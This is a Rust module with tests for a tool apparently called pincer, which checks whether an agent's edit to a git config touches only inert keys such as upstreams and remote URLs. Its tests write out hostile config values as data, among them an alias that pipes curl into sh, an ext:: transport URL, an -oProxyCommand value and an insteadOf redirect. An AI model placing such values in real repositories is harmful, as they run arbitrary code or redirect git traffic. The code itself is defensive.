//! Which changes to a repository's git configuration run nothing.
//!
//! git writes `.git/config` whole: it copies the file into `config.lock`
//! with its change and renames the lock over the file. The programs park
//! that rename ([`pincer_common::policy_rule::INSPECT`]); the twin reads
//! both files and decides here. A change is the agent's when it adds,
//! removes or changes only keys of [`INERT`] — a branch's upstream, a
//! remote's URLs and fetch and push specs, a submodule's URL — and leaves
//! every other key exactly as it was, in the same order: `core.hooksPath`,
//! `core.fsmonitor`, `core.pager`, `core.editor`, `core.sshCommand`,
//! `alias.*`, `filter.*`, `diff.*`, `include.*`, `includeIf.*`,
//! `credential.*`, `gpg.*`, `url.*.insteadOf` and everything else not
//! listed stay the owner's, whatever their value.
//!
//! The reading is strict on purpose. It takes what git itself writes —
//! comments, `[section]` and `[section "subsection"]` headers, one
//! `key = value` (or a bare `key`) per line — and nothing else: a value
//! continued on the next line, a header with a key after it, the old
//! `[section.subsection]` form, a carriage return or a NUL byte make the
//! file one pincer does not read, and then the change is the owner's. What
//! pincer cannot read exactly as git does, it does not judge.
//!
//! A URL is the agent's to set unless it names a transport helper
//! (`<transport>::<address>`, which runs `git-remote-<transport>`, among
//! them `ext::`, which runs any command) or starts with `-`.

use std::fmt;

/// The keys that run nothing: (section, key), with `*` for a section that
/// takes any subsection. Sections and keys compare without case, as git
/// compares them.
pub const INERT: &[(&str, &str)] = &[
    ("core", "repositoryformatversion"),
    ("core", "filemode"),
    ("core", "bare"),
    ("core", "logallrefupdates"),
    ("core", "ignorecase"),
    ("core", "precomposeunicode"),
    ("core", "symlinks"),
    ("extensions", "objectformat"),
    ("remote.*", "url"),
    ("remote.*", "pushurl"),
    ("remote.*", "fetch"),
    ("remote.*", "push"),
    ("remote.*", "tagopt"),
    ("remote.*", "prune"),
    ("remote.*", "prunetags"),
    ("remote.*", "mirror"),
    ("remote.*", "skipdefaultupdate"),
    ("remote.*", "skipfetchall"),
    ("remote.*", "promisor"),
    ("remote.*", "partialclonefilter"),
    ("branch.*", "remote"),
    ("branch.*", "merge"),
    ("branch.*", "rebase"),
    ("branch.*", "pushremote"),
    ("branch.*", "description"),
    ("submodule.*", "url"),
    ("submodule.*", "active"),
    ("submodule.*", "branch"),
];

/// The largest configuration read: a bigger file is the owner's to change.
pub const MAX_BYTES: usize = 1 << 20;

/// One setting: a key in its section, with its value as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Setting {
    /// The section, lower case.
    pub section: String,
    /// The subsection, as written (git compares it with case).
    pub subsection: Option<Vec<u8>>,
    /// The key, lower case.
    pub key: String,
    /// The value as written after `=` (none for a bare key).
    pub raw: Option<Vec<u8>>,
    /// The value as git reads it.
    pub value: Option<Vec<u8>>,
}

impl Setting {
    /// The key's full name, as `git config` prints it
    /// (`branch.fix.remote`).
    pub fn name(&self) -> String {
        match &self.subsection {
            Some(sub) => format!(
                "{}.{}.{}",
                self.section,
                crate::escape::escape(sub),
                self.key
            ),
            None => format!("{}.{}", self.section, self.key),
        }
    }

    /// Whether the key runs nothing (see [`INERT`]).
    pub fn is_inert(&self) -> bool {
        INERT.iter().any(|(section, key)| {
            let section_matches = match section.strip_suffix(".*") {
                Some(name) => self.subsection.is_some() && self.section == name,
                None => self.subsection.is_none() && self.section == *section,
            };
            section_matches && self.key == *key
        })
    }

    /// Why the value is not the agent's to set although the key runs
    /// nothing, if it is not.
    fn refused_value(&self) -> Option<&'static str> {
        let url = matches!(self.key.as_str(), "url" | "pushurl");
        let value = self.value.as_deref().unwrap_or_default();
        if url && value.windows(2).any(|w| w == b"::") {
            return Some("names a transport helper, a program git runs");
        }
        if url && value.starts_with(b"-") {
            return Some("starts with `-`, which git could take for an option");
        }
        None
    }
}

/// Why a file could not be read.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {what}")]
pub struct Unreadable {
    /// The line, from 1.
    pub line: usize,
    /// What is wrong with it.
    pub what: &'static str,
}

/// Reads a configuration file in the strict form (see the module
/// documentation).
pub fn parse(text: &[u8]) -> Result<Vec<Setting>, Unreadable> {
    if text.len() > MAX_BYTES {
        return Err(Unreadable {
            line: 0,
            what: "the file is larger than pincer reads",
        });
    }
    let mut settings = Vec::new();
    let mut section: Option<(String, Option<Vec<u8>>)> = None;
    for (index, line) in text.split(|&b| b == b'\n').enumerate() {
        let line_no = index + 1;
        let bad = |what| Unreadable {
            line: line_no,
            what,
        };
        if line.contains(&b'\r') || line.contains(&0) {
            return Err(bad("a carriage return or a NUL byte"));
        }
        let trimmed = trim(line);
        if trimmed.is_empty() || trimmed[0] == b'#' || trimmed[0] == b';' {
            continue;
        }
        if trimmed[0] == b'[' {
            section =
                Some(header(trimmed).ok_or_else(|| bad("a section header pincer does not read"))?);
            continue;
        }
        let Some((name, sub)) = &section else {
            return Err(bad("a key before any section"));
        };
        let (key, raw) = match trimmed.iter().position(|&b| b == b'=') {
            Some(at) => (trim(&trimmed[..at]), Some(trim(&trimmed[at + 1..]))),
            None => (trimmed, None),
        };
        if !is_key(key) {
            return Err(bad("a key pincer does not read"));
        }
        let value = match raw {
            Some(raw) => Some(decode(raw).ok_or_else(|| bad("a value pincer does not read"))?),
            None => None,
        };
        settings.push(Setting {
            section: name.clone(),
            subsection: sub.clone(),
            key: String::from_utf8_lossy(key).to_ascii_lowercase(),
            raw: raw.map(<[u8]>::to_vec),
            value,
        });
    }
    Ok(settings)
}

/// Bytes without the spaces and tabs around them.
fn trim(bytes: &[u8]) -> &[u8] {
    let start = bytes
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t'))
        .unwrap_or(bytes.len());
    let end = bytes
        .iter()
        .rposition(|b| !matches!(b, b' ' | b'\t'))
        .map_or(start, |e| e + 1);
    &bytes[start..end.max(start)]
}

/// A key name: a letter, then letters, digits and `-`.
fn is_key(key: &[u8]) -> bool {
    key.first().is_some_and(u8::is_ascii_alphabetic)
        && key.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-')
}

/// `[section]` or `[section "subsection"]`, and nothing after it but a
/// comment.
fn header(line: &[u8]) -> Option<(String, Option<Vec<u8>>)> {
    let close = line.iter().rposition(|&b| b == b']')?;
    let rest = trim(&line[close + 1..]);
    if !(rest.is_empty() || rest[0] == b'#' || rest[0] == b';') {
        return None;
    }
    let inside = &line[1..close];
    let (name, sub) = match inside.iter().position(|&b| b == b' ' || b == b'\t') {
        Some(at) => (&inside[..at], Some(trim(&inside[at..]))),
        None => (inside, None),
    };
    if name.is_empty() || !name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'-') {
        return None;
    }
    let sub = match sub {
        None => None,
        Some(quoted) => {
            let body = quoted.strip_prefix(b"\"")?.strip_suffix(b"\"")?;
            let mut out = Vec::new();
            let mut bytes = body.iter();
            while let Some(&b) = bytes.next() {
                match b {
                    b'\\' => out.push(*bytes.next()?),
                    b'"' => return None,
                    _ => out.push(b),
                }
            }
            Some(out)
        }
    };
    Some((String::from_utf8_lossy(name).to_ascii_lowercase(), sub))
}

/// A value as git reads it: quotes joined, escapes turned into their
/// bytes, an unquoted comment left out; `None` for a value continued on
/// the next line, an unknown escape or an unclosed quote.
fn decode(raw: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut quoted = false;
    let mut bytes = raw.iter();
    // Spaces are kept only between other bytes outside quotes.
    let mut pending_space = 0;
    while let Some(&b) = bytes.next() {
        match b {
            b'"' => {
                quoted = !quoted;
                out.extend(std::iter::repeat_n(b' ', pending_space));
                pending_space = 0;
            }
            b'\\' => {
                let escaped = match bytes.next()? {
                    b'\\' => b'\\',
                    b'"' => b'"',
                    b'n' => b'\n',
                    b't' => b'\t',
                    b'b' => 8,
                    _ => return None,
                };
                out.extend(std::iter::repeat_n(b' ', pending_space));
                pending_space = 0;
                out.push(escaped);
            }
            b'#' | b';' if !quoted => break,
            b' ' | b'\t' if !quoted => pending_space += 1,
            _ => {
                out.extend(std::iter::repeat_n(b' ', pending_space));
                pending_space = 0;
                out.push(b);
            }
        }
    }
    (!quoted).then_some(out)
}

/// What a change to the configuration does, when it is the agent's.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Changes {
    /// Keys set (added or changed), by full name.
    pub set: Vec<String>,
    /// Keys removed.
    pub removed: Vec<String>,
}

impl fmt::Display for Changes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut parts = Vec::new();
        if !self.set.is_empty() {
            parts.push(format!("sets {}", self.set.join(", ")));
        }
        if !self.removed.is_empty() {
            parts.push(format!("removes {}", self.removed.join(", ")));
        }
        if parts.is_empty() {
            f.write_str("changes no key")
        } else {
            f.write_str(&parts.join("; "))
        }
    }
}

/// Why a change is the owner's.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refused {
    /// The old or the new file is not in the strict form.
    #[error("the {which} configuration is not in a form pincer reads ({source})")]
    Unreadable {
        /// `current` or `new`.
        which: &'static str,
        /// Where and what.
        #[source]
        source: Unreadable,
    },
    /// A key that may run a program, or redirect git, changed.
    #[error("it changes {key}, which may run a program or send git elsewhere")]
    Key {
        /// The key's full name.
        key: String,
    },
    /// A key that runs nothing got a value that does.
    #[error("its {key} {why}")]
    Value {
        /// The key's full name.
        key: String,
        /// What the value does.
        why: &'static str,
    },
}

/// Decides a change from `old` (empty for a new file) to `new`: the keys
/// it changes when they all run nothing, or why it is the owner's.
pub fn compare(old: &[u8], new: &[u8]) -> Result<Changes, Refused> {
    let old = parse(old).map_err(|source| Refused::Unreadable {
        which: "current",
        source,
    })?;
    let new = parse(new).map_err(|source| Refused::Unreadable {
        which: "new",
        source,
    })?;
    // Every key that is not inert stays exactly as it was, in order: the
    // later of two values of a key wins, so order is meaning too.
    let kept_old: Vec<&Setting> = old.iter().filter(|s| !s.is_inert()).collect();
    let kept_new: Vec<&Setting> = new.iter().filter(|s| !s.is_inert()).collect();
    if kept_old != kept_new {
        let changed = kept_new
            .iter()
            .zip(kept_old.iter().map(Some).chain(std::iter::repeat(None)))
            .find(|(n, o)| Some(**n) != o.copied())
            .map(|(n, _)| *n)
            .or_else(|| kept_old.get(kept_new.len()).copied())
            .map_or_else(|| "a key".to_owned(), Setting::name);
        return Err(Refused::Key { key: changed });
    }
    let mut changes = Changes::default();
    let mut remaining: Vec<&Setting> = old.iter().filter(|s| s.is_inert()).collect();
    for setting in new.iter().filter(|s| s.is_inert()) {
        if let Some(at) = remaining.iter().position(|s| *s == setting) {
            remaining.remove(at);
            continue;
        }
        if let Some(why) = setting.refused_value() {
            return Err(Refused::Value {
                key: setting.name(),
                why,
            });
        }
        let name = setting.name();
        if !changes.set.contains(&name) {
            changes.set.push(name);
        }
    }
    for gone in remaining {
        let name = gone.name();
        if !changes.set.contains(&name) && !changes.removed.contains(&name) {
            changes.removed.push(name);
        }
    }
    Ok(changes)
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLONED: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\turl = /srv/upstream.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";

    fn with(extra: &str) -> String {
        format!("{CLONED}{extra}")
    }

    #[test]
    fn upstreams_and_remotes_are_the_agents() {
        let changes = compare(
            CLONED.as_bytes(),
            with("[branch \"fix\"]\n\tremote = origin\n\tmerge = refs/heads/main\n").as_bytes(),
        )
        .unwrap();
        assert_eq!(changes.set, ["branch.fix.remote", "branch.fix.merge"]);
        assert_eq!(
            changes.to_string(),
            "sets branch.fix.remote, branch.fix.merge"
        );
        let added = compare(
            CLONED.as_bytes(),
            with("[remote \"fork\"]\n\turl = https://example.com/me/fork.git\n\tfetch = +refs/heads/*:refs/remotes/fork/*\n").as_bytes(),
        )
        .unwrap();
        assert_eq!(added.set, ["remote.fork.url", "remote.fork.fetch"]);
        // What `git init` writes, into no file at all.
        let init = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n";
        assert_eq!(compare(b"", init.as_bytes()).unwrap().set.len(), 4);
        // Removing a remote (git keeps an empty section header).
        let removed = CLONED.replace(
            "\turl = /srv/upstream.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
            "",
        );
        assert_eq!(
            compare(CLONED.as_bytes(), removed.as_bytes())
                .unwrap()
                .removed,
            ["remote.origin.url", "remote.origin.fetch"]
        );
    }

    #[test]
    fn keys_that_run_programs_or_redirect_git_are_the_owners() {
        for (extra, key) in [
            ("[alias]\n\tx = !curl evil | sh\n", "alias.x"),
            ("[core]\n\tfsmonitor = ./evil\n", "core.fsmonitor"),
            ("[core]\n\thooksPath = .husky\n", "core.hookspath"),
            ("[core]\n\tpager = evil\n", "core.pager"),
            ("[core]\n\teditor = evil\n", "core.editor"),
            ("[core]\n\tsshCommand = evil\n", "core.sshcommand"),
            ("[filter \"x\"]\n\tclean = evil\n", "filter.x.clean"),
            ("[diff \"x\"]\n\ttextconv = evil\n", "diff.x.textconv"),
            ("[include]\n\tpath = ../evil\n", "include.path"),
            (
                "[includeIf \"gitdir:/\"]\n\tpath = ../evil\n",
                "includeif.gitdir:/.path",
            ),
            ("[credential]\n\thelper = !evil\n", "credential.helper"),
            ("[gpg]\n\tprogram = evil\n", "gpg.program"),
            (
                "[url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n",
                "url.https://evil/.insteadof",
            ),
            (
                "[remote \"origin\"]\n\treceivepack = evil\n",
                "remote.origin.receivepack",
            ),
            ("[remote \"origin\"]\n\tvcs = evil\n", "remote.origin.vcs"),
            (
                "[submodule \"s\"]\n\tupdate = !evil\n",
                "submodule.s.update",
            ),
            (
                "[extensions]\n\tworktreeConfig = true\n",
                "extensions.worktreeconfig",
            ),
        ] {
            let refused = compare(CLONED.as_bytes(), with(extra).as_bytes()).unwrap_err();
            assert_eq!(
                refused,
                Refused::Key {
                    key: key.to_owned()
                },
                "{extra}"
            );
        }
        // Changing or removing one the owner set is the owner's too.
        let owners = with("[alias]\n\tst = status\n");
        assert!(compare(owners.as_bytes(), CLONED.as_bytes()).is_err());
        assert!(
            compare(
                owners.as_bytes(),
                owners.replace("status", "!evil").as_bytes()
            )
            .is_err()
        );
        // ... and so is moving one about: the later of two values wins.
        let twice = with("[core]\n\tpager = less\n[core]\n\tpager = more\n");
        let swapped = with("[core]\n\tpager = more\n[core]\n\tpager = less\n");
        assert!(compare(twice.as_bytes(), swapped.as_bytes()).is_err());
        // A key moved into another section is a new key there.
        let moved = CLONED.replace("[branch \"main\"]\n", "[include]\n");
        assert!(compare(CLONED.as_bytes(), moved.as_bytes()).is_err());
    }

    #[test]
    fn the_owners_keys_stay_and_upstreams_still_change_beside_them() {
        let owners = with("[alias]\n\tst = status\n[core]\n\thooksPath = .husky\n");
        let changed = format!("{owners}[branch \"fix\"]\n\tremote = origin\n");
        assert_eq!(
            compare(owners.as_bytes(), changed.as_bytes()).unwrap().set,
            ["branch.fix.remote"]
        );
    }

    #[test]
    fn urls_that_run_programs_are_the_owners() {
        for (url, why) in [
            ("ext::sh -c evil", "transport helper"),
            ("\"ext::sh -c evil\"", "transport helper"),
            ("evil::example.com/x", "transport helper"),
            ("-oProxyCommand=evil", "`-`"),
        ] {
            let new = with(&format!("[remote \"fork\"]\n\turl = {url}\n"));
            let refused = compare(CLONED.as_bytes(), new.as_bytes()).unwrap_err();
            assert!(refused.to_string().contains(why), "{url}: {refused}");
        }
    }

    #[test]
    fn what_pincer_does_not_read_exactly_is_the_owners() {
        for (text, line) in [
            ("[core]\n\tpager = less \\\n\tmore\n", 2),
            ("[core] pager = evil\n", 1),
            ("[core.x]\n\tbare = false\n", 1),
            ("[core]\r\n\tbare = false\n", 1),
            ("\tbare = false\n", 1),
            ("[core]\n\tpa ger = x\n", 2),
            ("[core]\n\tbare = \"false\n", 2),
            ("[core]\n\tbare = \\q\n", 2),
            ("[remote \"a\"b\"]\n", 1),
        ] {
            let error = parse(text.as_bytes()).unwrap_err();
            assert_eq!(error.line, line, "{text:?}");
            assert!(matches!(
                compare(CLONED.as_bytes(), text.as_bytes()),
                Err(Refused::Unreadable { which: "new", .. })
            ));
        }
        assert!(matches!(
            compare(b"[core] pager = evil\n", CLONED.as_bytes()),
            Err(Refused::Unreadable {
                which: "current",
                ..
            })
        ));
    }

    #[test]
    fn values_read_as_git_reads_them() {
        let settings = parse(
            b"[remote \"o\\\"k\"] # a comment\n\turl = \"a b\" c # comment\n\tfetch=x;y\n\tmirror\n",
        )
        .unwrap();
        assert_eq!(settings[0].subsection.as_deref(), Some(&b"o\"k"[..]));
        assert_eq!(settings[0].value.as_deref(), Some(&b"a b c"[..]));
        assert_eq!(settings[1].value.as_deref(), Some(&b"x"[..]));
        assert_eq!(settings[2].value, None);
        assert!(settings.iter().all(Setting::is_inert));
        // Sections and keys compare without case.
        let loud = parse(b"[BRANCH \"Fix\"]\n\tREMOTE = origin\n").unwrap();
        assert_eq!(loud[0].name(), "branch.Fix.remote");
        assert!(loud[0].is_inert());
        // A section that takes a subsection needs one.
        assert!(!parse(b"[remote]\n\turl = x\n").unwrap()[0].is_inert());
    }
}
